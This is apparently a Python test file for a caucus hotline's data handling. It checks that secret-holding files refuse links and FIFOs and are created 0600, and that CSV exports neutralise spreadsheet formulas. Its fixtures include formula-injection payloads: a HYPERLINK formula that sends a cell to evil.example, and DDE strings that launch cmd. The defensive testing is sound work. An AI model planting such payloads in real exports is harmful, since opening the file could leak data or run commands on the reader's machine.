"""Files that hold secrets are private and never written through a link; exported CSVs are
safe to open in a spreadsheet, and `hotline audit` still reads the results export."""

from __future__ import annotations

import csv
import io
import os
import stat
import threading
from pathlib import Path

import pytest
from click.testing import CliRunner
from flask.testing import FlaskClient, FlaskCliRunner
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import select

from callflows.audit import SPREADSHEET_ESCAPED, from_spreadsheet_cell
from ivr.audit_command import audit_command
from ivr.cli import cli
from ivr.hotline import Hotline
from ivr.operations import OperationFailed, write_private_csv, write_private_text
from ivr.results import PLAIN_NUMBER, spreadsheet_cell
from ivr.staff.downloads import spreadsheet_safe
from models import Precinct, Report, ReportStatus, StaffRole
from tests.ivr.staff.support import add_precinct, add_report, staff_client

FORMULA_PRECINCT = '=HYPERLINK("http://evil.example/?"&A1,"1NW ADAIR")'
FORMULA_COUNTY = "@SUM(1+1)*cmd|' /C calc'!A0"
FORMULA_GROUP = "+Biden"
"""Names a spreadsheet would run as formulas if a CSV carried them as they are."""


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


# --- private files ---------------------------------------------------------------------------


def test_pins_issue_refuses_a_symbolic_link_and_writes_nothing_through_it(
    runner: FlaskCliRunner, hotline: Hotline, tmp_path: Path
) -> None:
    add_precinct(hotline, "100001")
    target = tmp_path / "somewhere-else.csv"
    link = tmp_path / "pins.csv"
    link.symlink_to(target)  # dangling: `exists()` is False, so only the link check stops it
    result = runner.invoke(cli, ["pins", "issue", "--out", str(link)])
    assert result.exit_code != 0
    assert "symbolic link" in result.output
    assert not target.exists()

    target.write_text("old contents\n")
    forced = runner.invoke(cli, ["pins", "issue", "--out", str(link), "--force"])
    assert forced.exit_code != 0 and "symbolic link" in forced.output
    assert target.read_text() == "old contents\n"
    with hotline.sessions() as session:
        # The file could not be written, so no PIN changed (the transaction rolled back).
        assert session.scalars(select(Precinct.pin_hmac)).one() is None


def test_pins_issue_force_narrows_an_existing_wide_file_to_0600(
    runner: FlaskCliRunner, hotline: Hotline, tmp_path: Path
) -> None:
    add_precinct(hotline, "100001")
    out = tmp_path / "pins.csv"
    out.write_text("x" * 10_000)
    out.chmod(0o644)
    result = runner.invoke(cli, ["pins", "issue", "--out", str(out), "--force"])
    assert result.exit_code == 0, result.output
    assert mode(out) == 0o600
    rows = list(csv.DictReader(out.open(encoding="utf-8")))
    assert [row["precinct_id"] for row in rows] == ["100001"]


def test_a_private_file_is_never_a_fifo_a_hard_link_or_a_link(tmp_path: Path) -> None:
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    outcome: list[BaseException | None] = []

    def write() -> None:
        try:
            write_private_text(fifo, "secret")
            outcome.append(None)
        except BaseException as error:
            outcome.append(error)

    # Opening a FIFO for writing blocks until a reader comes; it must be refused at once.
    writer = threading.Thread(target=write, daemon=True)
    writer.start()
    writer.join(timeout=5)
    assert outcome and isinstance(outcome[0], OperationFailed), outcome
    assert "not a regular file" in str(outcome[0])

    original = tmp_path / "original.txt"
    original.write_text("keep me")
    second_name = tmp_path / "second-name.txt"
    os.link(original, second_name)
    with pytest.raises(OperationFailed, match="hard link"):
        write_private_csv(second_name, ("a",), [{"a": "secret"}])
    assert original.read_text() == "keep me"

    link = tmp_path / "link.txt"
    link.symlink_to(original)
    with pytest.raises(OperationFailed, match="symbolic link"):
        write_private_text(link, "secret")
    assert original.read_text() == "keep me"


def test_a_private_file_in_a_new_folder_is_created_0600(tmp_path: Path) -> None:
    path = tmp_path / "new" / "sign-in.txt"
    write_private_text(path, "password: x\n")
    assert mode(path) == 0o600
    assert path.read_text() == "password: x\n"


# --- spreadsheet-safe CSV cells --------------------------------------------------------------


@given(st.text())
def test_a_neutralised_cell_reads_back_exactly_and_never_starts_a_formula(text: str) -> None:
    cell = spreadsheet_cell(text)
    assert from_spreadsheet_cell(cell) == text
    assert not cell.startswith(SPREADSHEET_ESCAPED[:-1]) or PLAIN_NUMBER.fullmatch(cell)


def test_cells_that_would_run_get_an_apostrophe_and_nothing_else_changes() -> None:
    assert spreadsheet_cell("=1+2") == "'=1+2"
    assert spreadsheet_cell("@SUM(A1)") == "'@SUM(A1)"
    assert spreadsheet_cell("-2+3") == "'-2+3"
    assert spreadsheet_cell("\t=1") == "'\t=1"
    assert spreadsheet_cell("\r=1") == "'\r=1"
    assert spreadsheet_cell("'=1") == "''=1"  # so that reading back is exact
    # A plain number runs nothing: a chair's phone in E.164 stays dialable as it is.
    assert spreadsheet_cell("+15155550123") == "+15155550123"
    assert spreadsheet_cell("-3") == "-3"
    assert spreadsheet_cell("1NW ADAIR") == "1NW ADAIR"
    assert spreadsheet_cell("O'Brien") == "O'Brien"
    text = 'a,b\n"=x, y",+1\n'
    assert spreadsheet_safe(text) == 'a,b\n"\'=x, y",+1\n'


def formula_named_report(hotline: Hotline) -> None:
    """A committed report for a precinct, county and group named like formulas."""
    add_precinct(hotline, "100001", FORMULA_COUNTY, FORMULA_PRECINCT, delegates_to_elect=4)
    report_id = add_report(hotline, "100001", status=ReportStatus.COMMITTED)
    with hotline.sessions.begin() as session:
        report = session.get(Report, report_id)
        assert report is not None
        report.groups = [FORMULA_GROUP, *report.groups[1:]]


def raw_cells(text: str) -> set[str]:
    return {cell for row in csv.reader(io.StringIO(text)) for cell in row}


def test_the_results_export_is_spreadsheet_safe_and_the_audit_reads_it(
    runner: FlaskCliRunner, hotline: Hotline, tmp_path: Path
) -> None:
    formula_named_report(hotline)
    export = tmp_path / "results.csv"
    result = runner.invoke(cli, ["results", "export", "--out", str(export)])
    assert result.exit_code == 0, result.output
    cells = raw_cells(export.read_text(encoding="utf-8"))
    assert {f"'{FORMULA_PRECINCT}", f"'{FORMULA_COUNTY}", f"'{FORMULA_GROUP}"} <= cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)

    # The precincts file names the site as it was imported; the audit must find it there.
    precincts = tmp_path / "precincts.csv"
    with precincts.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(("precinct_id", "county", "precinct", "delegates_to_elect", "is_satellite"))
        writer.writerow(("100001", FORMULA_COUNTY, FORMULA_PRECINCT, 4, 0))
    findings = tmp_path / "findings.csv"
    args = [str(export), "--precincts", str(precincts), "--out", str(findings)]
    audited = CliRunner().invoke(audit_command, args)
    assert audited.exit_code == 0, audited.output
    assert "Sites audited: 1" in audited.output
    assert "Sites with findings: 0" in audited.output
    assert "delegates_to_elect_unknown: 0" in audited.output


def test_the_dashboards_csv_downloads_are_spreadsheet_safe(
    client: FlaskClient, hotline: Hotline
) -> None:
    formula_named_report(hotline)
    add_precinct(
        hotline, "100002", FORMULA_COUNTY, "-1+1", chair_phone="+15155550102"
    )  # outstanding
    with hotline.sessions.begin() as session:
        precinct = session.scalars(select(Precinct).where(Precinct.precinct_id == "100002")).one()
        precinct.chair_name = "=cmd|' /C calc'!A0"
    staff_client(client, hotline, StaffRole.VIEWER)

    by_precinct = client.get("/staff/results/precincts.csv").get_data(as_text=True)
    assert {f"'{FORMULA_PRECINCT}", f"'{FORMULA_COUNTY}", f"'{FORMULA_GROUP}"} <= raw_cells(
        by_precinct
    )
    by_county = client.get("/staff/results/counties.csv").get_data(as_text=True)
    assert f"'{FORMULA_COUNTY}" in raw_cells(by_county)
    assert f"'{FORMULA_GROUP}" in raw_cells(by_county)
    outstanding = client.get("/staff/precincts/outstanding.csv")
    assert outstanding.headers["X-Content-Type-Options"] == "nosniff"
    rows = list(csv.DictReader(io.StringIO(outstanding.get_data(as_text=True))))
    assert rows == [
        {
            "county": f"'{FORMULA_COUNTY}",
            "precinct": "'-1+1",
            "precinct_id": "100002",
            "chair_name": "'=cmd|' /C calc'!A0",
            "chair_phone": "+15155550102",
        }
    ]
    for text in (by_precinct, by_county, outstanding.get_data(as_text=True)):
        for cell in raw_cells(text):
            assert not cell.startswith(SPREADSHEET_ESCAPED[:-1]) or PLAIN_NUMBER.fullmatch(cell)
